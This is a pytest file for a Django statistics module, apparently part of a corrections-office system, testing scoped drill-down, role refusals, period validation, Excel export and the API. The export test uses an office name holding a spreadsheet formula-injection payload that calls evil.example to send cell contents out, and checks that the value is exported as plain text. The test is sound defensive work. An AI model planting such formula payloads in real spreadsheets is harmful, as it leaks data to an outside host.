"""Statistics pages, drill-down, export and API: the same figures, the same scope, outsiders refused."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from zhengtu.audit.models import AuditEntry

pytestmark = pytest.mark.django_db


def test_statistics_page_shows_figures_with_links_to_their_records(stats, client, login):  # type: ignore[no-untyped-def]
    world = stats.world
    login(client, world.bureau_a)
    page = client.get("/command/statistics/?period=2026-12")
    assert page.status_code == 200
    text = page.content.decode()
    assert "卢峰司法所" in text and "桥江司法所" in text and "辰阳司法所" not in text
    assert "/command/statistics/records/?figure=registry.in_register_by_type" in text
    assert 'data-chart="registry.in_register_by_type"' in text  # every table has its chart beside it
    assert AuditEntry.objects.filter(action="statistics.view").exists()


def test_drill_down_lists_exactly_the_counted_records(stats, client, login):  # type: ignore[no-untyped-def]
    world = stats.world
    login(client, world.bureau_a)
    page = client.get(
        f"/command/statistics/records/?figure=registry.in_register_by_type&period=2026-12&organisation={world.office_a.pk}&value=probation"
    )
    assert page.status_code == 200
    text = page.content.decode()
    expected = [p for p in stats.people_a if p.sentence_type == "probation"]
    assert page.context["page"].paginator.count == len(expected) == 2
    for person in expected:
        assert person.name in text


def test_an_outsider_cannot_drill_into_another_county(stats, client, login):  # type: ignore[no-untyped-def]
    world = stats.world
    login(client, world.officer_b)
    page = client.get(
        f"/command/statistics/records/?figure=registry.in_register_by_type&period=2026-12&organisation={world.office_a.pk}"
    )
    assert page.status_code == 404
    everything = client.get("/command/statistics/records/?figure=registry.in_register_by_type&period=2026-12")
    names = everything.content.decode()
    assert all(p.name not in names for p in stats.people_a)
    api = client.get(
        f"/api/v1/statistics/figures/registry.in_register_by_type/records/?organisation={world.office_a.pk}"
    )
    assert api.status_code == 404


def test_roles_without_statistics_are_refused(stats, client, login):  # type: ignore[no-untyped-def]
    login(client, stats.prosecutor_a)
    assert client.get("/command/statistics/").status_code == 403
    assert client.get("/command/statistics/export.xlsx").status_code == 403
    assert client.get("/command/wall/").status_code == 403
    assert client.get("/api/v1/statistics/tables/").status_code == 403


def test_a_bad_period_gets_a_clear_message(stats, client, login):  # type: ignore[no-untyped-def]
    login(client, stats.world.bureau_a)
    page = client.get("/command/statistics/?period=2026-13", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert page.status_code == 400
    api = client.get("/api/v1/statistics/tables/?period=yesterday")
    assert api.status_code == 400 and "2026-12" in api.content.decode()
    assert client.get("/command/statistics/records/?figure=nope&period=2026-12").status_code == 404


def test_excel_export_in_the_layout_handed_upward_is_audited_and_formula_safe(stats, client, login):  # type: ignore[no-untyped-def]
    world = stats.world
    world.office_a2.name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    world.office_a2.save(update_fields=["name"])
    login(client, world.bureau_a)
    response = client.get("/command/statistics/export.xlsx?period=2026-12")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert world.county_a.name in [cell.value for cell in cells]  # reporting unit in the title block
    hostile = [cell for cell in cells if cell.value == world.office_a2.name]
    assert hostile, "the office is listed under its own name"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)  # text, never a formula
    assert AuditEntry.objects.filter(action="statistics.export").exists()


def test_api_tables_match_the_page_and_keep_the_scope(stats, client, login):  # type: ignore[no-untyped-def]
    world = stats.world
    login(client, world.bureau_a)
    data = client.get("/api/v1/statistics/tables/?period=2026-12&figure=registry.in_register_by_type").json()
    table = data["sections"][0]["tables"][0]
    assert table["total"] == 4
    assert {row["organisation"]["name"] for row in table["rows"]} == {"卢峰司法所", "桥江司法所"}
    figures = client.get("/api/v1/statistics/figures/").json()
    assert any(f["key"] == "supervision.sanctions" for f in figures["figures"])
    assert any(f["key"] == "supervision.absconding" for f in figures["figures"])
    assert any(m["key"] == "supervision.reoffending" for m in figures["not_computed"])


def test_figure_page_has_a_trend_with_its_table(stats, client, login):  # type: ignore[no-untyped-def]
    login(client, stats.world.bureau_a)
    page = client.get("/command/statistics/figures/supervision.check_ins/?period=2026-12")
    assert page.status_code == 200
    assert len(page.context["trend"]) == 12
    assert page.context["trend"][-1]["value"] == 3
